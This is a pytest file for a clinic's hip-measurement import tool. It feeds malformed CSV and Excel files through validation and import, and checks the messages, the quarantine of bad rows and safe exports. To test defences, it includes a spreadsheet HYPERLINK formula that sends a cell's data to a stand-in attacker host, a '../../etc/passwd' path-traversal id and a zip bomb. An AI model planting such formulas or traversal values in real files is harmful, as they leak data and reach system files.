"""Every bad-input file in tests/data/bad, tried through the command line as a clinic would.

For each file: `validate` reports what it should (row, column, value, rule, fix), a strict `import`
either imports everything or nothing, and a `--quarantine` import keeps the row accounting:
rows read = imported + quarantined + duplicates + skipped. Every stored value equals the cell as
written or the normalisation the report lists for that cell. Then one test per finding that
needs more than that table.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from hipanalytics.cli import main
from hipanalytics.records import table_spec
from hipanalytics.store import Store

BAD = Path(__file__).parent / "data" / "bad"
PATIENTS = Path(__file__).parent / "data" / "patients.csv"

# file: (extra args, validate exit code, texts validate prints, (imported, quarantined, duplicates, skipped)
#        or None when the file cannot be read as a table and is refused whole even with --quarantine)
CASES = {
    "missing_column.csv": ([], 1, ["row      1  degrees: missing required column 'degrees'"], None),
    "wrong_types.csv": ([], 1, ["row      2  degrees: 'abc': not a number of degrees",
                                "row      3  trial: 'two': not a whole number"], (1, 2, 0, 0)),
    "degrees_with_units.csv": ([], 0, ["3 values normalised", "unit text removed; the value is in degrees"], (3, 0, 0, 0)),
    "comma_decimals.csv": ([], 0, ["decimal comma read as a decimal point"], (2, 0, 0, 0)),
    "impossible_angles.csv": ([], 1, ["row      2  degrees: '-45': hip IR outside -20..90 degrees is not plausible",
                                      "row      3  degrees: '120': hip IR outside -20..90",
                                      "warning   row      4  degrees: '65': hip IR outside the usual 0..60",
                                      "warning   row      5  degrees: '-5': hip IR outside the usual 0..60"], (2, 2, 0, 0)),
    "position_typos.csv": ([], 1, ["row      2  position: '90/9': unknown position '90/9'",
                                   "row      3  position: 'seated 9O': unknown position",
                                   "row      4  position: 'supine': unknown position 'supine'; fix: say which supine test"],
                           (1, 3, 0, 0)),
    "sides_many_ways.csv": ([], 0, ["5 values normalised", "5  side spelling standardised"], (6, 0, 0, 0)),
    "dates_three_formats.csv": ([], 1, ["row      5  measured_on: '03/04/2026': ambiguous date",
                                        "other rows of this file are day-first (e.g. '25/03/2026')"], (3, 1, 0, 0)),
    "future_date.csv": ([], 1, ["measured_on: '2099-01-05': date in the future"], (0, 1, 0, 0)),
    "empty.csv": ([], 1, ["the file is empty"], None),
    "header_only.csv": ([], 1, ["0 rows read", "the file has a header but no data rows: nothing to import"], None),
    "latin1.csv": ([], 0, ["the file is not UTF-8; read it as cp1252"], (1, 0, 0, 0)),
    "semicolon.csv": ([], 0, ["columns are separated by semicolons", "decimal comma read as a decimal point"],
                      (2, 0, 0, 0)),
    "second_sheet.xlsx": ([], 1, ["the first sheet 'Read me' is empty", "pass --sheet 'ROM'"], None),
    "conflicting_ids.csv": ([], 1, ["the same id on rows with different content: rows 2, 3"], (1, 2, 0, 0)),
    "duplicate_rows.csv": ([], 0, ["duplicate row      3  -: 'same as row 2': duplicate of an earlier row"],
                           (2, 0, 1, 0)),
    "unknown_patient_and_before_birth.csv": ([], 1, ["patient_id: 'P404': unknown patient",
                                                     "measured_on: '1970-01-05': date before the patient's birth year"],
                                             (1, 2, 0, 0)),
    # a decimal comma in an unquoted comma-separated file splits the value: never stored as 32 degrees, trial 5
    "decimal_comma_shift.csv": ([], 1, [
        "row      3  -: 'P001,2026-01-05,right,hip,internal_rotation,seated_90,active,inclinometer,32,5,': 11 fields, "
        "but the header has 10: degrees 32,5 looks like a decimal comma that split the value in two",
        'fix: write the value with a decimal point (32.5) or quote it ("32,5")',
        "row      4  -: 'P001,2026-01-05,left,hip,internal_rotation,seated_90,active,inclinometer,33,5,1': 11 fields, "
        "but the header has 10: degrees 33,5 looks like a decimal comma",
        "row      6  degrees: 'x33': not a number of degrees",
        "row      6  -: 'P001,2026-01-19,left,hip,internal_rotation,seated_90,active,inclinometer,x33,1,': 11 fields, but "
        "the header has 10 (the extra ones empty), and the row's values fail their columns",
        "2  empty fields beyond the header's 10 columns dropped"], (2, 3, 0, 0)),
    # integers beyond any range (and beyond 64 bits) and a header cell over csv's field limit: refusals, not crashes
    "huge_integers.csv": ([], 1, ["row      3  trial: '123456789012345678901234': a whole number of 24 digits, far "
                                  "too large for trial; fix: write a whole number from 1 to 20",
                                  "row      4  degrees: '1.23457e+26': hip IR outside -20..90"], (1, 2, 0, 0)),
    "long_header.csv": ([], 1, ["the header cell in column K is 140,000 characters long: not a column name"], None),
    # 1. ragged rows, binary files, junk
    "ragged_row.csv": ([], 1, ["error     row      3  -: 'P001,2026-01-05,right,hip,internal_rotation,seated_90,",
                               "12 fields, but the header has 11"], (3, 1, 0, 0)),
    "workbook_named_csv.csv": ([], 1, ["this is not a text table: it looks like a ZIP archive, such as an Excel "
                                       "workbook (.xlsx); fix: if it is an Excel workbook, name it .xlsx"], None),
    "binary_noise.csv": ([], 1, ["this is not a text table: it looks like binary data, not text"], None),
    "random_text.csv": ([], 1, ["the first row does not name any column of the measurements table"], None),
    # 2. a column given twice
    "duplicate_header.csv": ([], 1, ["row      1  degrees: 'degrees': column 'degrees' appears 2 times: "
                                     "I (column 9) and K (column 11)", "their values may differ"], None),
    # 3. UTF-16
    "excel_unicode_text.txt": ([], 0, ["the file is UTF-16-LE text (byte-order mark)", "columns are separated by tabs"],
                               (2, 0, 0, 0)),
    "utf16_without_bom.csv": ([], 1, ["the file looks like UTF-16-LE text without a byte-order mark; fix: if it is, "
                                      "give --encoding utf-16-le"], None),
    # 4. control characters and over-long text
    "control_and_long_text.csv": ([], 1, ["row      3  notes: 'bad\\x00byte': control character(s) U+0000 in the text",
                                          "(2,500 characters): 2,500 characters; notes holds at most 2,000"],
                                  (1, 2, 0, 0)),
    # 5. formulas (imported as written; exports neutralise them, tested below)
    "formula_cells.csv": ([], 0, ["0 errors"], (3, 0, 0, 0)),
    # 6. blank rows and a total row
    "total_and_blank_rows.csv": ([], 0, ["4 rows skipped", "skipped   row      3  -: blank row",
                                         "skipped   row      7  -: 'Total 89': summary row (a total, not a record)",
                                         "row      8  -: 'Mean 29.7': summary row"], (3, 0, 0, 4)),
    "total_and_blank_rows.xlsx": ([], 0, ["3 rows skipped", "skipped   row      6  -: blank row",
                                          "row      7  -: 'Total 89': summary row"], (3, 0, 0, 3)),
    # 7. the same measurement twice and no trial numbers
    "duplicate_rows_no_trial.csv": ([], 0, ["duplicate row      4  -: 'same as row 2': suspected duplicate: rows 2 "
                                            "and 4 hold the same values at the same visit and no trial number",
                                            "--repeated-trials"], (2, 0, 1, 0)),
    # 8. dates
    "iso_datetimes.csv": ([], 1, ["date-time read as its date",
                                  "row      4  measured_on: '2026-03-04T10:00:00+01:00': a time-zone offset (+01:00)",
                                  "row      5  measured_on: '2026-03-04 09:30:00Z': a time-zone offset (Z)",
                                  "HIPANALYTICS_TIMEZONE=Europe/London"], (2, 2, 0, 0)),
    # 9. what a sheet's values hide: a hidden first sheet (not read, said), a hidden row and column (read, said),
    #    merged cells and a formula without a computed value (errors in their cells, never stored empty)
    "hidden_merged_formulas.xlsx": ([], 1, [
        "hidden sheet(s) not read: 'Old export'; sheet 'ROM' was read",
        "row      1  notes: 'notes': column K (notes) is hidden in Excel; it was read",
        "warning   row      3  -: '(hidden row)': the row is hidden in Excel",
        "row      5  patient_id: 'A5': the cell is part of the merged cells A4:A5: only A4 holds a value",
        "row      6  notes: 'K6': the cell holds a formula (=B6&\" note\") whose value was never computed and saved"],
        (3, 2, 0, 0)),
    # 11. a zip bomb renamed .xlsx is refused before it is unpacked
    "zip_bomb.xlsx": ([], 1, ["unpacks to 63 MB, 1,029 times its compressed size", "refused before reading"], None),
    # 9. digits of other scripts: one policy, in every number and date column: written in ASCII, reported
    "non_ascii_digits.csv": ([], 0, ["4 values normalised", "digits of another script (full-width, Arabic-Indic, "
                                     "Devanagari...) written as 0-9"], (2, 0, 0, 0)),
    # 10. values that could be read two ways, and impossible times
    "ambiguous_values.csv": ([], 1, [
        "row      2  degrees: '1,234': ambiguous: 1,234 could be 1234 (a thousands separator) or 1.234 (a decimal comma)",
        "row      3  measured_on: '2026-09-05 25:00': impossible time of day",
        "row      4  measured_on: '2026-03-04T23:30:00-02:00': a time-zone offset (-02:00)",
        "decimal comma read as a decimal point"], (1, 3, 0, 0)),
    "day_first_impossible.csv": (["--dates", "day-first"], 1,
                                 ["row      3  measured_on: '12/31/2025': impossible with --dates day-first: 31 is not "
                                  "a month"], (1, 1, 0, 0)),
    "mixed_date_orders.csv": ([], 1, ["the file mixes day-first dates (row 2 ('25/03/2026')) and month-first dates "
                                      "(row 3 ('03/25/2026'))"], None),
    # 9. a file whose set-aside rows come back (see the round-trip test)
    "quarantine_round_trip.csv": ([], 1, ["row      3  patient_id: 'P003': unknown patient",
                                          "row      4  degrees: '3O': not a number of degrees"], (1, 2, 0, 0)),
    # 10. messages
    "empty_cells.csv": ([], 1, ["row      2  degrees: (empty): empty cell in a required column",
                                "row      3  side: (empty): empty cell in a required column"], (0, 2, 0, 0)),
    "many_extra_columns.csv": ([], 0, ["warning   row      1  -: ", "1,990 columns are not part of the measurements "
                                       "table: 'extra_0', 'extra_1'", "and 1,980 more"], (1, 0, 0, 0)),
}
TABLE = {"patient_ids.csv": "patients", "iso_datetimes_sessions.csv": "sessions",
         "huge_integers_patients.csv": "patients", "huge_integers_sessions.csv": "sessions",
         "impossible_times_sessions.csv": "sessions"}


def run(*args: str):
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


@pytest.fixture
def store_path(tmp_path) -> Path:
    path = tmp_path / "clinic.sqlite"
    assert run("import", PATIENTS, "--table", "patients", "--store", path).exit_code == 0
    return path


def test_every_bad_file_has_a_test():
    tested = set(CASES) | set(TABLE)
    assert sorted(p.name for p in BAD.iterdir()) == sorted(tested)


def _text(value, kind: str) -> str:
    """A stored value as the report writes it (what a normalisation's 'normalised' shows)."""
    if pd.isna(value):
        return ""
    if kind == "date":
        return pd.Timestamp(value).strftime("%Y-%m-%d")
    if kind == "float":
        return f"{value:g}"
    return str(value)


def assert_stored_as_written_or_reported(store: Store, table: str, report_csv: Path, raw: pd.DataFrame) -> None:
    """Every stored cell equals its input cell (``raw``: row -> column -> text) or the normalisation listed
    for that cell in the import's --report file."""
    report = pd.read_csv(report_csv, dtype=str, keep_default_na=False)
    shown = report["normalised"].str.replace(r"^'(?=[=+\-@\t\r])", "", regex=True)  # as a spreadsheet shows it
    changed = {(int(r.row), r.column): text for r, text in zip(report.itertuples(), shown)
               if r.kind == "normalised" and r.row and r.column}
    kinds = {c.name: c.kind for c in table_spec(table)}
    stored = store.read(table, history=True)
    for record in stored.to_dict("records"):
        row = int(record["source_row"])
        for column, text in raw[row].items():
            if column not in kinds or (kinds[column] == "id" and column.endswith(("measurement_id", "session_id"))):
                continue
            written = _text(record[column], kinds[column])
            expected = changed.get((row, column), text.strip())
            if kinds[column] in ("float", "int", "year") and expected and written:
                assert float(written) == float(expected.replace(",", ".")), (row, column, text, written)
            else:
                assert written == expected, (row, column, text, written)


@pytest.mark.parametrize("name", list(CASES))
def test_bad_file_through_the_cli(name, store_path, tmp_path):
    args, validate_code, texts, counts = CASES[name]
    path = BAD / name
    checked = run("validate", path, "--table", "measurements", "--store", store_path, *args)
    assert checked.exit_code == validate_code, checked.output
    for text in texts:
        assert text in checked.output, checked.output
    assert "Traceback" not in checked.output and "nan" not in re.findall(r"'(\w+)'", checked.output)

    store = Store(store_path)
    before = len(store.read("measurements", history=True))
    strict = run("import", path, "--table", "measurements", "--store", store_path, *args)
    if validate_code == 1:
        assert strict.exit_code == 1 and "nothing was imported" in strict.output
        assert len(store.read("measurements", history=True)) == before
    else:
        assert strict.exit_code == 0, strict.output

    fresh = tmp_path / "fresh.sqlite"
    run("import", PATIENTS, "--table", "patients", "--store", fresh)
    report = tmp_path / "report.csv"
    partial = run("import", path, "--table", "measurements", "--store", fresh, "--quarantine",
                  "--quarantine-dir", tmp_path / "q", "--report", report, *args)
    summary = Store(fresh).imports()
    rows = summary[summary["table_name"] == "measurements"]
    if counts is None:
        assert partial.exit_code == 1 and rows.empty and Store(fresh).read("measurements").empty
        assert "the file was refused as a whole (see above); nothing was imported" in partial.output
        assert "--quarantine)" not in partial.output  # quarantine cannot help a file that is not a table
        return
    assert partial.exit_code == (3 if counts[1] else 0), partial.output
    imported, quarantined, duplicates, skipped = counts
    got = rows.iloc[0]
    assert (got["imported"], got["quarantined"], got["duplicates"], got["skipped"]) == counts
    assert got["rows_read"] == imported + quarantined + duplicates + skipped
    assert f"{imported} imported, {quarantined} quarantined, {duplicates} duplicates, {skipped} skipped" in partial.output
    assert len(Store(fresh).read("measurements")) == imported
    from hipanalytics.records import read_records

    raw = read_records(path, "measurements", dates=args[1] if args[:1] == ["--dates"] else None).raw
    cells = {int(r["source_row"]): {k: v for k, v in r.items() if k != "source_row"} for r in raw.to_dict("records")}
    assert_stored_as_written_or_reported(Store(fresh), "measurements", report, cells)


# -- 1. ragged rows ---------------------------------------------------------------------------


def test_a_ragged_row_is_set_aside_whole_and_the_others_imported(store_path, tmp_path):
    result = run("import", BAD / "ragged_row.csv", "--table", "measurements", "--store", store_path, "--quarantine",
                 "--quarantine-dir", tmp_path)
    assert result.exit_code == 3
    (quarantine,) = tmp_path.glob("ragged_row-measurements-quarantine-*.csv")
    problems = pd.read_csv(quarantine)["problems"].iloc[0]
    assert "12 fields, but the header has 11" in problems
    assert "felt tight, then better" in problems  # nothing of the row is lost, not even the part past the header
    stored = Store(store_path).read("measurements")
    assert len(stored) == 3 and stored["notes"].dropna().tolist() == ["ok"]


def test_a_large_junk_file_is_refused_in_one_line_without_a_traceback(store_path):
    result = run("import", BAD / "random_text.csv", "--table", "measurements", "--store", store_path, "--quarantine")
    errors = [line for line in result.output.splitlines() if line.strip().startswith("error")]
    assert result.exit_code == 1 and len(errors) == 2  # the reason, and "nothing was imported"
    assert "0 values normalised" in result.output and "normalised (" not in result.output


# -- 3. encodings ----------------------------------------------------------------------------


def test_utf16_is_read_and_utf16_without_a_mark_needs_the_encoding_option(store_path, tmp_path):
    excel = tmp_path / "excel.sqlite"
    run("import", PATIENTS, "--table", "patients", "--store", excel)
    result = run("import", BAD / "excel_unicode_text.txt", "--table", "measurements", "--store", excel)
    assert result.exit_code == 0, result.output
    stored = Store(excel).read("measurements").sort_values("patient_id")
    assert stored["degrees"].tolist() == [30.0, 27.5] and stored["side"].tolist() == ["right", "left"]
    refused = run("import", BAD / "utf16_without_bom.csv", "--table", "measurements", "--store", store_path)
    assert refused.exit_code == 1 and "--encoding utf-16-le" in refused.output and "\x00" not in refused.output
    declared = run("import", BAD / "utf16_without_bom.csv", "--table", "measurements", "--store", store_path,
                   "--encoding", "utf-16-le")
    assert declared.exit_code == 0 and "2 imported" in declared.output, declared.output
    wrong = run("validate", BAD / "latin1.csv", "--table", "measurements", "--encoding", "utf-8")
    assert wrong.exit_code == 1 and "cannot be read as utf-8: byte 0xeb" in wrong.output


# -- 4. text limits ---------------------------------------------------------------------------


def test_a_million_character_note_is_refused_with_its_length_and_not_printed(store_path, tmp_path):
    header = (BAD / "sides_many_ways.csv").read_text().splitlines()[0] + ",notes"
    path = tmp_path / "long.csv"
    path.write_text(f"{header}\nP001,2026-01-05,left,hip,IR,seated_90,active,inclinometer,30,1,{'n' * 1_000_000}\n")
    result = run("import", path, "--table", "measurements", "--store", store_path)
    assert result.exit_code == 1 and "(1,000,000 characters): 1,000,000 characters; notes holds at most 2,000" in result.output
    assert len(result.output) < 3000


# -- 5. formulas in exports -------------------------------------------------------------------


def test_exports_neutralise_formulas_and_leave_numbers_and_the_store_alone(store_path, tmp_path):
    assert run("import", BAD / "formula_cells.csv", "--table", "measurements", "--store", store_path).exit_code == 0
    stored = Store(store_path).read("measurements").sort_values("trial")
    assert stored["notes"].tolist() == ['=HYPERLINK("http://evil.example/?x="&A2,"click")', "+1 after warm-up", "-2 pain"]
    assert run("export", "measurements", "--out", tmp_path / "m.csv", "--store", store_path).exit_code == 0
    exported = pd.read_csv(tmp_path / "m.csv").sort_values("trial")
    assert exported["notes"].tolist() == ["'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"click\")", "'+1 after warm-up",
                                          "'-2 pain"]
    assert exported["assessor"].tolist() == ["AB", "'@AB", "AB"] and exported["degrees"].tolist() == [30.0, -5.0, 31.0]
    assert run("export", "measurements", "--out", tmp_path / "m.xlsx", "--store", store_path).exit_code == 0
    sheet = pd.read_excel(tmp_path / "m.xlsx").sort_values("trial")
    assert sheet["notes"].iloc[0].startswith("'=") and sheet["degrees"].tolist() == [30.0, -5.0, 31.0]
    again = tmp_path / "again.sqlite"  # an export imports back to the same values
    run("import", PATIENTS, "--table", "patients", "--store", again)
    back = run("import", tmp_path / "m.csv", "--table", "measurements", "--store", again)
    assert back.exit_code == 0 and "spreadsheet-safety quote removed" in back.output, back.output
    assert Store(again).read("measurements").sort_values("trial")["notes"].tolist() == stored["notes"].tolist()


# -- 7. repeated trials ------------------------------------------------------------------------


def test_repeated_trials_are_kept_when_the_user_says_so(store_path):
    result = run("import", BAD / "duplicate_rows_no_trial.csv", "--table", "measurements", "--store", store_path,
                 "--repeated-trials")
    assert result.exit_code == 0 and "3 imported" in result.output
    assert sorted(Store(store_path).read("measurements")["trial"]) == [1, 2, 3]


# -- 8. dates ----------------------------------------------------------------------------------


def test_iso_date_times_are_read_as_their_date_and_a_session_keeps_its_time(store_path, monkeypatch):
    monkeypatch.setenv("HIPANALYTICS_TIMEZONE", "Asia/Tokyo")  # offsets converted to the clinic's zone (UTC+9)
    result = run("import", BAD / "iso_datetimes.csv", "--table", "measurements", "--store", store_path)
    assert result.exit_code == 0 and "4 imported" in result.output, result.output
    assert "time-zone offset converted to the clinic's time zone Asia/Tokyo" in result.output
    stored = Store(store_path).read("measurements")
    assert set(stored["measured_on"].dt.strftime("%Y-%m-%d")) == {"2026-03-04"}  # 10:00+01:00 is 18:00 in Tokyo
    ambiguous = run("import", BAD / "ambiguous_values.csv", "--table", "measurements", "--store", store_path,
                    "--quarantine", "--quarantine-dir", store_path.parent)
    assert ambiguous.exit_code == 3 and "2 imported, 2 quarantined" in ambiguous.output  # the offset converted
    late = Store(store_path).read("measurements")
    assert "2026-03-05" in set(late["measured_on"].dt.strftime("%Y-%m-%d"))  # 23:30-02:00 is 10:30 next day
    monkeypatch.setenv("HIPANALYTICS_TIMEZONE", "Mars/Olympus")
    wrong = run("validate", BAD / "iso_datetimes.csv", "--table", "measurements", "--store", store_path)
    assert wrong.exit_code == 1 and "is not a time zone" in wrong.output
    sessions = run("import", BAD / "iso_datetimes_sessions.csv", "--table", "sessions", "--store", store_path)
    assert sessions.exit_code == 0 and "time taken from the date-time in performed_on" in sessions.output
    stored = Store(store_path).read("sessions").sort_values("performed_at")
    assert stored["performed_at"].tolist() == ["08:15", "18:00"]
    times = run("validate", BAD / "impossible_times_sessions.csv", "--table", "sessions", "--store", store_path)
    assert times.exit_code == 1 and "row      2  performed_at: '24:00': not a time of day" in times.output
    assert "row      4  performed_at: '18:61': not a time of day" in times.output and "time written as HH:MM" in times.output


# -- 9. the quarantine round trip ---------------------------------------------------------------


def test_quarantined_rows_come_back_after_a_fix_by_reimport_or_from_the_quarantine_file(store_path, tmp_path):
    source = tmp_path / "measurements.csv"
    shutil.copy(BAD / "quarantine_round_trip.csv", source)
    first = run("import", source, "--store", store_path, "--quarantine")
    assert first.exit_code == 3 and "1 imported, 2 quarantined" in first.output
    new_patient = tmp_path / "patients-more.csv"
    new_patient.write_text("patient_id,birth_year,involved_side\nP003,1980,left\n")
    assert run("import", new_patient, "--table", "patients", "--store", store_path).exit_code == 0
    again = run("import", source, "--store", store_path, "--quarantine")  # the same file: its set-aside rows retried
    assert again.exit_code == 3 and "3 rows read, 1 imported, 1 quarantined, 1 duplicates" in again.output
    assert "those rows were tried again" in again.output
    written = sorted(tmp_path.glob("measurements-measurements-quarantine-*.csv"), key=lambda p: p.stat().st_mtime_ns)
    assert len(written) == 2  # one per import, even within the same second
    quarantine = written[-1]
    table = pd.read_csv(quarantine, dtype=str)
    assert table["source_row"].tolist() == ["4"] and table["degrees"].tolist() == ["3O"]
    table.loc[0, "degrees"] = "30"  # the clinician fixes the cell
    table.to_csv(quarantine, index=False)
    fixed = run("import", quarantine, "--table", "measurements", "--store", store_path)
    assert fixed.exit_code == 0 and "1 imported" in fixed.output, fixed.output
    assert "rows taken from" in fixed.output and str(source) in fixed.output
    with Store(store_path) as store:
        stored = store.read("measurements", history=True).sort_values("source_row")
        assert stored[["patient_id", "degrees", "source_row"]].values.tolist() == [
            ["P001", 30.0, 2], ["P003", 29.0, 3], ["P001", 30.0, 4]]  # row numbers of the original file
        assert store.imports()["origin"].iloc[-1] == str(source)
    unchanged = run("import", source, "--store", store_path, "--quarantine")  # the source still has the typo
    assert unchanged.exit_code == 3 and "3 rows read, 0 imported, 1 quarantined, 2 duplicates" in unchanged.output


# -- 10. messages ------------------------------------------------------------------------------


def test_many_problems_point_to_the_report_which_lists_every_change(store_path, tmp_path):
    header = (BAD / "sides_many_ways.csv").read_text().splitlines()[0]
    rows = [f"P001,2026-01-{1 + i % 28:02d},Lt,hip,IR,seated_90,active,inclinometer,x{i},{1 + i // 28}" for i in range(60)]
    path = tmp_path / "many.csv"
    path.write_text(header + "\n" + "\n".join(rows) + "\n")
    result = run("validate", path, "--table", "measurements", "--report", tmp_path / "all.csv")
    assert "... and 10 more: write them all with --report FILE" in result.output
    full = pd.read_csv(tmp_path / "all.csv")
    assert (full["kind"] == "error").sum() == 60 and (full["kind"] == "normalised").sum() == 120  # side and motion


# -- 11 and 12. ids ----------------------------------------------------------------------------


def test_unsafe_patient_ids_are_refused_with_the_rule_and_alike_ids_get_their_own_files(tmp_path):
    store_path = tmp_path / "ids.sqlite"
    result = run("import", BAD / "patient_ids.csv", "--table", "patients", "--store", store_path, "--quarantine",
                 "--quarantine-dir", tmp_path)
    assert result.exit_code == 3 and "2 imported, 3 quarantined" in result.output
    checked = run("validate", BAD / "patient_ids.csv", "--table", "patients")
    for bad in ("'../../etc/passwd'", "'P 001'", "'A..B'"):
        assert f"patient_id: {bad}: not a valid id: ids use letters A-Z a-z, digits 0-9 and . _ - / only" in checked.output
    assert sorted(Store(store_path).read("patients")["patient_id"]) == ["Q/1", "Q_1"]
    from hipanalytics.reports import render_patient

    with Store(store_path) as store:
        for pid in ("Q/1", "Q_1"):
            store.add_records("measurements", [{"patient_id": pid, "measured_on": "2026-01-05", "side": "left",
                                                "motion": "IR", "position": "seated_90", "mode": "active",
                                                "instrument": "inclinometer", "degrees": 30}])
    first = render_patient(store_path, "Q/1", tmp_path / "reports")["html"]
    second = render_patient(store_path, "Q_1", tmp_path / "reports")["html"]
    assert first != second and first.exists() and second.exists()
    assert second.name == "progress-Q_1.html" and first.name.startswith("progress-Q_1-")


@pytest.mark.parametrize("name, texts, imported", [
    ("huge_integers_patients.csv", ["row 3  birth_year '99999999999999999999999': a whole number of 23 digits, "
                                    "far too large for birth_year; fix: write the year with 4 digits (e.g. 1971)"], 1),
    ("huge_integers_sessions.csv", ["row 3  rounds_done '100000000000000000000': a whole number of 21 digits",
                                    "row 4  pain_after '-77777777777777777777777': a whole number of 23 digits, "
                                    "far too large for pain_after; fix: write a whole number from 0 to 10"], 1),
])
def test_huge_integers_in_any_table_are_set_aside_row_by_row(name, texts, imported, store_path, tmp_path):
    table = TABLE[name]
    result = run("import", BAD / name, "--table", table, "--store", store_path, "--quarantine", "--quarantine-dir",
                 tmp_path)
    assert result.exit_code == 3 and "internal error" not in result.output, result.output
    for text in texts:
        assert text in result.output
    summary = Store(store_path).imports()
    got = summary[summary["table_name"] == table].iloc[-1]
    assert got["imported"] == imported and got["rows_read"] == got["imported"] + got["quarantined"]
    (quarantine,) = tmp_path.glob(f"{Path(name).stem}-{table}-quarantine-*.csv")
    assert "far too large" in quarantine.read_text()


# -- 11. smaller findings ----------------------------------------------------------------------

def test_ids_windows_reserves_as_device_names_are_refused(tmp_path):
    path = tmp_path / "patients.csv"
    path.write_text("patient_id,birth_year,involved_side\nCON,1970,left\nnul.txt,1971,left\nLPT1,1972,right\n"
                    "site/COM3,1973,right\nCONSTANCE,1974,left\n")
    result = run("validate", path, "--table", "patients", "--store", tmp_path / "none.sqlite")
    assert result.exit_code == 1
    for row, value in ((2, "CON"), (3, "nul.txt"), (4, "LPT1"), (5, "site/COM3")):
        assert f"row      {row}  patient_id: '{value}': not a valid id" in result.output
    assert "row      6" not in result.output and "device name" in result.output


def test_text_cells_that_look_like_numbers_keep_their_sign_through_an_export(store_path, tmp_path):
    path = tmp_path / "patients.csv"
    path.write_text("patient_id,birth_year,involved_side,cohort,site\nP010,1970,left,+1,-1\n")
    assert run("import", path, "--table", "patients", "--store", store_path).exit_code == 0
    out = tmp_path / "exported.csv"
    assert run("export", "patients", "--out", out, "--store", store_path).exit_code == 0
    row = out.read_text().splitlines()[-1]
    assert ",'-1,'+1," in row  # site, cohort: a spreadsheet would read +1 as the number 1
    again = tmp_path / "again.sqlite"
    assert run("import", out, "--table", "patients", "--store", again).exit_code == 0
    stored = Store(again).read("patients").set_index("patient_id").loc["P010"]
    assert (stored["cohort"], stored["site"]) == ("+1", "-1")


def test_validate_finds_what_import_would_and_says_when_there_is_no_store(store_path, tmp_path):
    changed = tmp_path / "patients.csv"
    changed.write_text(PATIENTS.read_text().replace("1970", "1971"))
    checked = run("validate", changed, "--table", "patients", "--store", store_path)
    imported = run("import", changed, "--table", "patients", "--store", store_path)
    assert checked.exit_code == imported.exit_code == 1
    assert "'P001' is already stored with different values" in checked.output
    assert "'P001' is already stored with different values" in imported.output
    alone = CliRunner().invoke(main, ["validate", str(BAD / "unknown_patient_and_before_birth.csv"), "--table",
                                      "measurements", "--store", str(tmp_path / "missing.sqlite")])
    assert "warning: no store at" in alone.output and "unknown patients and ids already stored were not looked for" in alone.output
